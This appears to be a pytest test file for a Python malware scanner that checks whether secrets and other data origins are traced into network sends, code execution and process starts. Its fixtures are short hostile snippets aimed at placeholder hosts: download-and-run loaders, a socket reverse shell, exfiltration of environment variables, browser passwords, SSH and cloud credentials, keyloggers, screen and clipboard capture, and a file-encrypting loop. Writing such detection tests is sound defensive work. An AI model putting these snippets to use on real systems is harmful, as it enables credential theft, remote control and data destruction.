"""A fact knows where its values come from, through every way Python has of passing them on."""

import pytest

from scanners.facts import Act, Label
from tests.scanners.python.conftest import Read

POST = "import requests\ndef post(x):\n    requests.post('https://x.example.invalid', data=x)\n"
SECRET = "import os\nsecret = os.environ['A_TOKEN']\n"
PASSED_ON = {
    "directly": "post(secret)",
    "f-string": "post(f'a {secret} b')",
    "percent": "post('%s' % secret)",
    "format": "post('{}'.format(secret))",
    "plus": "post('a' + secret)",
    "dictionary": "post({'a': secret})",
    "json": "import json\npost(json.dumps({'a': secret}))",
    "base64": "import base64\npost(base64.b64encode(secret.encode()))",
    "list": "a = []\na.append(secret)\npost(a)",
    "item": "a = {}\na['x'] = secret\npost(a)",
    "nested item": "a = {'x': {}}\na['x']['y'] = secret\npost(a)",
    "update": "a = {}\na.update(x=secret)\npost(a)",
    "comprehension": "post([x for x in [secret]])",
    "dictionary comprehension": "post({'a': x for x in [secret]})",
    "loop": "a = ''\nfor x in [secret]:\n    a += x\npost(a)",
    "unpacking": "a, b = 1, secret\npost(b)",
    "walrus": "post(a := secret)",
    "conditional": "post(secret if secret else '')",
    "or": "post(secret or '')",
    "strip": "post(secret.strip().encode())",
    "slice": "post(secret[:10])",
    "function": "def f(x):\n    return x\npost(f(secret))",
    "two functions": "def f(x):\n    return x\ndef g(x):\n    return f(x)\npost(g(secret))",
    "named argument": "def f(a, b=None):\n    return b\npost(f(1, b=secret))",
    "default": "def f(a=secret):\n    post(a)\nf()",
    "spread": "def f(*a, **k):\n    post(k)\nf(x=secret)",
    "closure": "def f():\n    def g():\n        post(secret)\n    return g\nf()()",
    "lambda": "f = lambda x: post(x)\nf(secret)",
    "map": "list(map(post, [secret]))",
    "partial": "import functools\nfunctools.partial(post, secret)()",
    "generator": "def f():\n    yield secret\nfor x in f():\n    post(x)",
    "await": "async def f():\n    return secret\nasync def g():\n    post(await f())",
    "field": "class A:\n    def __init__(self):\n        self.x = secret\n    def f(self):\n"
    "        post(self.x)\nA().f()",
    "field set later": "class A:\n    def f(self):\n        post(self.x)\n    def g(self):\n        self.x = secret",
    "class attribute": "class A:\n    x = secret\npost(A.x)",
    "constructor": "class A:\n    def __init__(self, x):\n        self.x = x\npost(A(secret).x)",
    "data class": "from dataclasses import dataclass\n@dataclass\nclass A:\n    x: str\npost(A(secret).x)",
    "property": "class A:\n    @property\n    def x(self):\n        return secret\npost(A().x)",
    "inherited": "class A:\n    def f(self):\n        return secret\nclass B(A): pass\npost(B().f())",
    "call": "class A:\n    def __call__(self):\n        return secret\npost(A()())",
    "context": "class A:\n    def __enter__(self):\n        return secret\n    def __exit__(self, *a): pass\n"
    "with A() as a:\n    post(a)",
    "decorator": "def d(f):\n    def w(*a):\n        post(f(*a))\n    return w\n@d\ndef g():\n    return secret\ng()",
    "thread": "import threading\nthreading.Thread(target=post, args=(secret,)).start()",
    "executor": "from concurrent.futures import ThreadPoolExecutor as T\nT().submit(post, secret)",
    "global": "data = None\ndef f():\n    global data\n    data = secret\ndef g():\n    post(data)\nf()\ng()",
    "try": "try:\n    a = secret\nexcept Exception:\n    a = ''\npost(a)",
    "string buffer": "import io\nb = io.StringIO()\nb.write(secret)\npost(b.getvalue())",
    "file": "with open('a.txt', 'w') as f:\n    f.write(secret)\npost(open('a.txt').read())",
    "match": "match secret:\n    case x:\n        post(x)",
    "zip": "for a, b in zip([1], [secret]):\n    post(b)",
    "enumerate": "for a, b in enumerate([secret]):\n    post(b)",
    "items": "for a, b in {'x': secret}.items():\n    post(b)",
    "get": "post({'x': secret}.get('x'))",
    "aliased module": "import requests as r\nr.post('https://x.example.invalid', json=secret)",
    "session": "import requests\ns = requests.Session()\ns.params['A'] = secret\ns.get('https://x.example.invalid')",
    "own module of helpers": "post(__import__('os').environ['A_TOKEN'])",
    "globals": "globals()['post'](secret)",
}
KEPT_OUT = {
    "other variable": "post('x')",
    "other member": "a = {'x': secret, 'y': 1}\npost(a['y'])",
    "overwritten": "secret = 'x'\npost(secret)",
    "comparison": "post(secret == 'x')",
    "other field": "class A:\n    def __init__(self):\n        self.x = secret\n        self.y = 1\npost(A().y)",
    "other argument": "def f(a, b):\n    return b\npost(f(secret, 1))",
    "other function": "def f():\n    secret = 1\n    post(secret)\nf()",
    "returned before": "def f(x):\n    if not x:\n        return 'a'\n    return 'b'\npost(f(secret))",
}
COMES_FROM: dict[str, tuple[str, Act, frozenset[Label]]] = {
    "download and run": (
        ("import requests\nexec(requests.get('https://x.example.invalid').text)"),
        Act.CODE_EVAL,
        frozenset([Label.NETWORK]),
    ),
    "download, write, run": (
        (
            "import urllib.request as u, subprocess, os\np = os.path.join(os.environ['TEMP'], 'a.exe')\n"
            "u.urlretrieve('https://x.example.invalid', p)\nsubprocess.Popen([p])"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "download, write, run by function": (
        (
            "import requests, os\ndef get(url, to):\n    with open(to, 'wb') as f:\n"
            "        f.write(requests.get(url).content)\n"
            "get('https://x.example.invalid', '/tmp/a')\n"
            "os.system('/tmp/a')"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "download into a temporary file": (
        (
            "import requests, os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\n"
            "f.write(requests.get('https://x.example.invalid').content)\nf.close()\n"
            "os.startfile(f.name)"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "commands from a socket": (
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('a.example.invalid', 1))\nwhile True:\n"
            "    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "answers to a socket": (
        (
            "import socket, subprocess\ns = socket.socket()\ns.connect(('a.example.invalid', 1))\nwhile True:\n"
            "    c = s.recv(1024).decode()\n    s.send(subprocess.check_output(c, shell=True))"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.NETWORK, Label.PROCESS]),
    ),
    "decoded code": (
        "import base64\ndef f(x):\n    exec(base64.b64decode(x))",
        Act.CODE_EVAL,
        frozenset([Label.DECODED]),
    ),
    "marshalled code": ("import marshal\nexec(marshal.loads(b'x'))", Act.CODE_EVAL, frozenset([Label.OPAQUE])),
    "decrypted code": (
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
        Act.CODE_EVAL,
        frozenset([Label.DECODED, Label.OPAQUE]),
    ),
    "code in an image": (
        "from PIL import Image\nexec(bytes(Image.open('a.png').getdata()))",
        Act.CODE_EVAL,
        frozenset([Label.OPAQUE]),
    ),
    "code in a file": ("exec(open('icon.png').read())", Act.CODE_EVAL, frozenset([Label.FILE])),
    "shifted code": (
        ("def f(data, key):\n    exec(''.join(chr(ord(c) ^ key) for c in data))"),
        Act.CODE_EVAL,
        frozenset([Label.DECODED]),
    ),
    "message run as command": (
        "import os\nasync def on_message(message):\n    os.system(message.content)",
        Act.PROCESS_START,
        frozenset([Label.MESSAGE]),
    ),
    "whole environment": (
        "import os, json, requests\nrequests.post('https://x.example.invalid', data=json.dumps(dict(os.environ)))",
        Act.NETWORK_SEND,
        frozenset([Label.ENVIRONMENT_ALL]),
    ),
    "environment by loop": (
        (
            "import os, requests\nd = {}\nfor k, v in os.environ.items():\n    d[k] = v\n"
            "requests.post('https://x.example.invalid', json=d)"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.ENVIRONMENT_ALL]),
    ),
    "secrets of the environment": (
        (
            "import os, requests\nd = {k: v for k, v in os.environ.items() if 'TOKEN' in k or 'KEY' in k}\n"
            "requests.post('https://x.example.invalid', json=d)"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.SECRET, Label.ENVIRONMENT_ALL]),
    ),
    "keys that are typed, joined": (
        (
            "import requests\nfrom pynput import keyboard\nT = []\ndef on_press(key):\n    T.append(str(key))\n"
            "    requests.post('https://x.example.invalid', data=''.join(T))\n"
            "keyboard.Listener(on_press=on_press).start()"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.KEYS]),
    ),
    "bot token": (
        "import requests\ndef setup(bot):\n    requests.post('https://x.example.invalid', data=bot.http.token)",
        Act.NETWORK_SEND,
        frozenset([Label.SECRET]),
    ),
    "configured key": (
        "import requests\ndef run(config):\n    requests.post('https://x.example.invalid', data=config['api_key'])",
        Act.NETWORK_SEND,
        frozenset([Label.SECRET]),
    ),
    "key by getattr": (
        (
            "import requests\ndef run(config):\n"
            "    requests.post('https://x.example.invalid', data=getattr(config, 'token'))"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.SECRET]),
    ),
    "browser passwords": (
        (
            "import os, shutil, sqlite3, requests\n"
            "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', "
            "'Default', 'Login Data')\nshutil.copy2(p, 'x.db')\nc = sqlite3.connect('x.db').cursor()\n"
            "c.execute('select 1')\nfor row in c.fetchall():\n"
            "    requests.post('https://x.example.invalid', json={'r': row})"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.CREDENTIALS]),
    ),
    "tokens below listed folders": (
        (
            "import os, re, requests\nroaming = os.getenv('APPDATA')\npaths = {'Discord': roaming + '\\\\discord'}\n"
            "def find(path):\n    path += '\\\\Local Storage\\\\leveldb'\n    found = []\n"
            "    for name in os.listdir(path):\n"
            "        for line in open(f'{path}\\\\{name}', errors='ignore'):\n"
            "            for t in re.findall(r'x', line):\n"
            "                found.append(t)\n    return found\nfor name, path in paths.items():\n"
            "    requests.post('https://x.example.invalid', json={'c': find(path)})"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.CREDENTIALS]),
    ),
    "attached file": (
        "import requests\nrequests.post('https://x.example.invalid', files={'f': open('/home/a/.ssh/id_rsa', 'rb')})",
        Act.NETWORK_SEND,
        frozenset([Label.CREDENTIALS]),
    ),
    "archive of files": (
        (
            "import zipfile, requests\nz = zipfile.ZipFile('a.zip', 'w')\nz.write('/home/a/.aws/credentials')\n"
            "z.close()\n"
            "requests.post('https://x.example.invalid', files={'f': open('a.zip', 'rb')})"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.CREDENTIALS]),
    ),
    "cloud keys": (
        (
            "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/iam')\n"
            "requests.post('https://x.example.invalid', data=r.text)"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.CREDENTIALS]),
    ),
    "host": (
        "import socket, getpass, requests\nrequests.get('https://x.example.invalid/?h=' + socket.gethostname())",
        Act.NETWORK_SEND,
        frozenset([Label.HOST]),
    ),
    "name look-up": (
        "import socket, os\nsocket.gethostbyname(os.environ['A_KEY'] + '.x.example.invalid')",
        Act.NETWORK_LOOKUP,
        frozenset([Label.SECRET]),
    ),
    "screen": (
        (
            "from PIL import ImageGrab\nimport requests, io\ni = ImageGrab.grab()\nb = io.BytesIO()\ni.save(b, 'PNG')\n"
            "requests.post('https://x.example.invalid', files={'f': b.getvalue()})"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.SCREEN]),
    ),
    "saved screen": (
        (
            "import pyautogui, requests\npyautogui.screenshot().save('a.png')\n"
            "requests.post('https://x.example.invalid', files={'f': open('a.png', 'rb')})"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.SCREEN]),
    ),
    "keys": (
        (
            "from pynput import keyboard\nimport requests\nlog = ''\ndef press(key):\n    global log\n"
            "    log += str(key)\n"
            "    requests.post('https://x.example.invalid', data=log)\nkeyboard.Listener(on_press=press).start()"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.KEYS]),
    ),
    "clipboard": (
        ("import pyperclip, requests\nrequests.post('https://x.example.invalid', data=pyperclip.paste())"),
        Act.NETWORK_SEND,
        frozenset([Label.CLIPBOARD]),
    ),
    "what a program prints": (
        (
            "import subprocess, requests\no = subprocess.run(['id'], capture_output=True).stdout\n"
            "requests.post('https://x.example.invalid', data=o)"
        ),
        Act.NETWORK_SEND,
        frozenset([Label.PROCESS]),
    ),
    "callbacks of a web socket": (
        (
            "import websocket, os\ndef got(ws, message):\n    os.system(message)\n"
            "websocket.WebSocketApp('wss://x.example.invalid', on_message=got).run_forever()"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "asynchronous streams": (
        (
            "import asyncio, os\nasync def f():\n    r, w = await asyncio.open_connection('a.example.invalid', 1)\n"
            "    os.system((await r.readline()).decode())\n"
            "asyncio.run(f())"
        ),
        Act.PROCESS_START,
        frozenset([Label.NETWORK]),
    ),
    "encrypted files": (
        (
            "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(Fernet.generate_key())\n"
            "for r, d, n in os.walk('/home'):\n    for x in n:\n        p = os.path.join(r, x)\n"
            "        data = f.encrypt(open(p, 'rb').read())\n        open(p, 'wb').write(data)"
        ),
        Act.ENCRYPT,
        frozenset([Label.FILE]),
    ),
}


@pytest.mark.parametrize("name", PASSED_ON)
def test_secret_is_known_wherever_it_is_passed_on(name: str, read_python: Read) -> None:
    facts = read_python(POST + SECRET + PASSED_ON[name]).facts
    assert any(fact.act is Act.NETWORK_SEND and Label.SECRET in fact.labels for fact in facts)


@pytest.mark.parametrize("name", KEPT_OUT)
def test_what_is_not_passed_on_is_not_sent(name: str, read_python: Read) -> None:
    facts = read_python(POST + SECRET + KEPT_OUT[name]).facts
    assert not any(fact.act is Act.NETWORK_SEND and Label.SECRET in fact.labels for fact in facts)


@pytest.mark.parametrize("name", COMES_FROM)
def test_origin_is_known_through_the_whole_chain(name: str, read_python: Read) -> None:
    source, act, labels = COMES_FROM[name]
    facts = read_python(source).facts
    assert any(fact.act is act and labels <= fact.labels for fact in facts), facts


@pytest.mark.parametrize("test", ["k.startswith('WEATHER_')", "'KEY' not in k", "not k.endswith('TOKEN')"])
def test_choice_of_harmless_variables_is_not_the_environment(test: str, read_python: Read) -> None:
    source = f"import os\nd = {{k: v for k, v in os.environ.items() if {test}}}\n"
    facts = read_python(POST + source + "post(d)").facts
    assert not any(Label.ENVIRONMENT_ALL in fact.labels for fact in facts)


@pytest.mark.parametrize("client", ["httpx.Client", "httpx.AsyncClient"])
def test_client_with_a_base_puts_it_before_every_path(client: str, read_python: Read) -> None:
    source = f"import httpx\ndef run():\n    with {client}(base_url='https://x.example.invalid/v1/') as c:\n        "
    facts = read_python(source + "c.get('/me')\n        c.get('https://y.example.invalid/z')").facts
    found = {fact.detail for fact in facts if fact.act is Act.NETWORK_FETCH}
    assert found == {"https://x.example.invalid/v1/me", "https://y.example.invalid/z"}


def test_origin_names_the_line_where_it_enters(read_python: Read) -> None:
    facts = read_python(POST + SECRET + "post(secret)").facts
    (sent,) = [fact for fact in facts if fact.act is Act.NETWORK_SEND]
    assert [origin.line for origin in sent.origins if origin.label is Label.SECRET] == [5]


def test_decoded_answer_is_no_hidden_text(read_python: Read) -> None:
    facts = read_python("import requests\nexec(requests.get('https://x.example.invalid').content.decode())").facts
    assert all(Label.DECODED not in fact.labels for fact in facts)
